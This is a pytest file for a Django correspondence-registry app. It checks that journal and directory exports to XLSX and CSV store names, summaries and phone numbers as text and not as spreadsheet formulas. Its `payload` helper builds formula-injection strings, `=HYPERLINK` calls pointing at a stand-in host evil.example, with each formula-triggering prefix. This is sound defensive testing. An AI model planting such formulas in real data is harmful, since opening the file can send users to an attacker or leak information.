"""Issue #11 point 5: every correspondence export writes user text as text, never as a formula.

A summary, a signatory or a correspondent's name starting with "=", "+", "-", "@", a tab or a carriage
return is read back from the XLSX as a string cell holding the same text (a carriage return comes back as
a line feed: XML's end-of-line rule, see akimat/exports.py); in CSV it is kept behind an apostrophe, which
the directory import removes again. Dates stay dates.
"""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from correspondence.models import Correspondent, Document, Recipient
from tests.correspondence.test_journals import journal_url, make_document, pinned  # noqa: F401 - a fixture
from tests.spreadsheets import read_back, table_cells

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def payload(start: str, what: str) -> str:
    return f'{start}HYPERLINK("https://evil.example/?{what}","open")'


def by_header(sheet: Worksheet, text: str) -> dict[str, Cell]:
    """The cells of the first row holding `text` (as read back), keyed by the header row."""
    rows = table_cells(sheet)
    headers = [cell.value for cell in rows[0]]
    row = next(row for row in rows[1:] if any(cell.value == read_back(text) for cell in row))
    return dict(zip(headers, row, strict=True))


def assert_text(cell: Cell, text: str) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
    assert cell.value == read_back(text)


def workbook(response) -> openpyxl.Workbook:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_incoming_journal_export_writes_summaries_and_names_as_text(client, registrar, pinned, start):  # noqa: F811
    summary, name = payload(start, "summary"), payload(start, "name")
    signatory, their_number = payload(start, "signatory"), f"{start}12-3/45"
    correspondent = Correspondent.objects.create(name=name)
    make_document(
        registrar, correspondent=correspondent, summary=summary, signatory=signatory, their_number=their_number
    )
    client.force_login(registrar)

    row = by_header(workbook(client.get(journal_url("incoming", format="xlsx"))).active, summary)

    assert_text(row["Summary"], summary)
    assert_text(row["Correspondent"], name)
    assert_text(row["Signatory"], signatory)
    assert_text(row["Their outgoing number"], their_number)
    assert row["Registration date"].is_date


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_outgoing_journal_export_writes_addressees_as_text(client, registrar, pinned, start):  # noqa: F811
    summary, name = payload(start, "summary"), payload(start, "addressee")
    letter = make_document(registrar, kind=Document.Kind.OUTGOING, summary=summary)
    Recipient.objects.create(document=letter, correspondent=Correspondent.objects.create(name=name), position=0)
    client.force_login(registrar)

    row = by_header(workbook(client.get(journal_url("outgoing", format="xlsx"))).active, summary)

    assert_text(row["Summary"], summary)
    assert_text(row["Addressees"], name)


COLUMNS = ("name", "short_name", "kind", "bin_iin", "email", "phone", "address")


def make_correspondent(start: str) -> Correspondent:
    return Correspondent.objects.create(
        kind=Correspondent.Kind.ORGANISATION,
        name=payload(start, "name"),
        short_name=payload(start, "short"),
        phone=f"{start}7 7252 53-00-00",
        bin_iin="090540000444",
    )


def admin_export(client, admin_user, file_format: int):
    """The directory exported from the admin (format 0: XLSX, 1: CSV), every column chosen."""
    client.force_login(admin_user)
    data = {"format": str(file_format), "resource": "0"} | {f"correspondentresource_{c}": "on" for c in COLUMNS}
    response = client.post(reverse("admin:correspondence_correspondent_export"), data)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    return response


def assert_directory_xlsx(response, correspondent: Correspondent) -> None:
    row = by_header(workbook(response).active, correspondent.name)
    assert_text(row["name"], correspondent.name)
    assert_text(row["short_name"], correspondent.short_name)
    assert_text(row["phone"], correspondent.phone)
    assert_text(row["bin_iin"], "090540000444")  # a BIN stays text: its leading zero matters


def csv_row(response, correspondent: Correspondent) -> dict[str, str]:
    text = response.content.decode("utf-8-sig")
    return next(row for row in csv.DictReader(io.StringIO(text)) if row["bin_iin"] == correspondent.bin_iin)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_directory_xlsx_export_writes_names_as_text(client, registrar, start):
    correspondent = make_correspondent(start)
    client.force_login(registrar)
    assert_directory_xlsx(client.get(reverse("correspondence:correspondents"), {"export": "xlsx"}), correspondent)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_admins_directory_xlsx_export_writes_names_as_text(client, admin_user, start):
    correspondent = make_correspondent(start)
    assert_directory_xlsx(admin_export(client, admin_user, 0), correspondent)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_directory_csv_export_puts_an_apostrophe_before_a_formula(client, registrar, start):
    correspondent = make_correspondent(start)
    client.force_login(registrar)

    row = csv_row(client.get(reverse("correspondence:correspondents"), {"export": "csv"}), correspondent)

    assert row["name"] == "'" + correspondent.name
    assert row["short_name"] == "'" + correspondent.short_name
    assert row["phone"] == "'" + correspondent.phone
    assert row["bin_iin"] == "090540000444"


# a leading tab or carriage return is whitespace, which the import tidies away in any cell (resources._text)
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_issue11_p5_the_directory_csv_export_imports_back_unchanged(client, registrar, start):
    make_correspondent(start)
    client.force_login(registrar)
    exported = client.get(reverse("correspondence:correspondents"), {"export": "csv"}).content

    upload = SimpleUploadedFile("directory.csv", exported, content_type="text/csv")
    preview = client.post(reverse("correspondence:correspondents_import"), {"action": "preview", "file": upload})

    assert preview.context["error_rows"] == []
    assert preview.context["totals"]["skip"] == 1, preview.context["totals"]  # the apostrophes are taken off


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_issue11_p5_the_admins_directory_csv_export_puts_an_apostrophe_before_a_formula(client, admin_user, start):
    correspondent = make_correspondent(start)
    row = csv_row(admin_export(client, admin_user, 1), correspondent)
    assert (row["name"], row["short_name"]) == ("'" + correspondent.name, "'" + correspondent.short_name)


def test_issue12_p6_the_journal_xlsx_is_titled_with_the_apparatus_the_journal_and_its_period(
    client,
    registrar,
    org,
    pinned,  # noqa: F811
):
    make_document(registrar, summary="Жылу беру маусымы")
    client.force_login(registrar)

    filtered = workbook(client.get(journal_url("incoming", format="xlsx", registered_from="2026-03-01")))
    unfiltered = workbook(client.get(journal_url("incoming", format="xlsx")))

    sheet = filtered.active
    assert sheet["A1"].value == org.apparatus.name_en  # the apparatus (the test client's language: English)
    assert sheet["A2"].value.endswith("from 01.03.2026")
    assert unfiltered.active["A2"].value.endswith("as at 16.03.2026")
    assert sheet.title in sheet["A2"].value  # the journal's full name
    assert sheet.auto_filter.ref == f"A4:R{sheet.max_row}"
    assert sheet.page_setup.orientation == "landscape"
